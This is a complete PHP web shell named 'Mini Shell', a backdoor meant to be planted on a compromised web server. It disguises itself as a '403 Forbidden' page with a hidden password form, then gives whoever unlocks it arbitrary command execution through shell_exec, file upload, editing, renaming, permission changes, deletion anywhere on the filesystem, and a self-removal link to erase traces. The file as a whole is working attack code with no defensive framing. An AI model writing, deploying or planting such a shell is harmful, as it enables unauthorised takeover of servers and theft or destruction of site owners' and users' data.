<?php
@error_reporting(0);
@set_time_limit(0);
session_start();
$pw = '21232f297a57a5a743894a0e4a801fc3';
if (!isset($_SESSION['fm_ok'])) {
    if (isset($_POST['pw']) && md5($_POST['pw']) === $pw) { $_SESSION['fm_ok'] = 1; }
    else { echo '<title>403 Forbidden</title><center><form method=post><input type=password name=pw><input type=submit value=Login></form></center>'; exit; }
}
$path = isset($_GET['path']) ? $_GET['path'] : getcwd();
$path = str_replace('\\', '/', $path);
$act = isset($_GET['act']) ? $_GET['act'] : 'FilesMan';
echo '<html><head><title>Mini Shell</title><style>body{background:#1e1e1e;color:#ddd;font-family:monospace}a{color:#7fdbff}</style></head><body>';
echo '<b>Server:</b> ' . php_uname() . '<br><b>Path:</b> ';
$parts = explode('/', $path);
foreach ($parts as $i => $p) {
    if ($p == '' && $i == 0) { echo '<a href="?path=/">/</a>'; continue; }
    if ($p == '') { continue; }
    echo '<a href="?path=' . urlencode(implode('/', array_slice($parts, 0, $i + 1))) . '">' . htmlspecialchars($p) . '</a>/';
}
echo '<hr>';
if (isset($_FILES['file'])) {
    if (copy($_FILES['file']['tmp_name'], $path . '/' . $_FILES['file']['name'])) { echo '<font color=lime>Upload OK</font><br>'; }
    else { echo '<font color=red>Upload failed</font><br>'; }
}
echo '<form enctype="multipart/form-data" method="POST">Upload: <input type="file" name="file"><input type="submit" value="upload"></form>';
echo '<form method="POST" action="?act=cmd&path=' . urlencode($path) . '">Command: <input name="cmd" size="60"><input type="submit" value=">>"></form>';
if ($act == 'cmd' && isset($_POST['cmd'])) {
    echo '<pre>' . htmlspecialchars(shell_exec('cd ' . escapeshellarg($path) . ' && ' . $_POST['cmd'] . ' 2>&1')) . '</pre>';
}
elseif ($act == 'edit' && isset($_GET['file'])) {
    if (isset($_POST['src'])) {
        if (file_put_contents($_GET['file'], $_POST['src']) !== false) { echo '<font color=lime>Saved</font>'; }
    }
    echo '<form method="POST"><textarea name="src" cols=120 rows=25>' . htmlspecialchars(file_get_contents($_GET['file'])) . '</textarea><br><input type="submit" value="save"></form>';
}
elseif ($act == 'rename' && isset($_GET['file'], $_POST['newname'])) {
    rename($_GET['file'], $path . '/' . $_POST['newname']);
}
elseif ($act == 'chmod' && isset($_GET['file'], $_POST['perm'])) {
    chmod($_GET['file'], octdec($_POST['perm']));
}
elseif ($act == 'delete' && isset($_GET['file'])) {
    is_dir($_GET['file']) ? rmdir($_GET['file']) : unlink($_GET['file']);
}
elseif ($act == 'FilesMan') {
    $scan = scandir($path);
    echo '<table width=100%><tr><th>Name</th><th>Size</th><th>Perm</th><th>Options</th></tr>';
    foreach ($scan as $dir) {
        if (!is_dir($path . '/' . $dir) || $dir == '.' || $dir == '..') { continue; }
        echo '<tr><td><a href="?path=' . urlencode($path . '/' . $dir) . '">' . htmlspecialchars($dir) . '</a></td><td>--</td><td>' . substr(sprintf('%o', fileperms($path . '/' . $dir)), -4) . '</td><td><a href="?act=rename&path=' . urlencode($path) . '&file=' . urlencode($path . '/' . $dir) . '">rename</a> <a href="?act=delete&path=' . urlencode($path) . '&file=' . urlencode($path . '/' . $dir) . '">delete</a></td></tr>';
    }
    foreach ($scan as $file) {
        if (!is_file($path . '/' . $file)) { continue; }
        $size = filesize($path . '/' . $file) / 1024;
        echo '<tr><td>' . htmlspecialchars($file) . '</td><td>' . round($size, 3) . ' KB</td><td>' . substr(sprintf('%o', fileperms($path . '/' . $file)), -4) . '</td><td><a href="?act=edit&path=' . urlencode($path) . '&file=' . urlencode($path . '/' . $file) . '">edit</a> <a href="?act=chmod&path=' . urlencode($path) . '&file=' . urlencode($path . '/' . $file) . '">chmod</a> <a href="?act=delete&path=' . urlencode($path) . '&file=' . urlencode($path . '/' . $file) . '">delete</a></td></tr>';
    }
    echo '</table>';
}
echo '<hr><a href="?act=kill">Self remove</a></body></html>';
if ($act == 'kill') { unlink(__FILE__); }
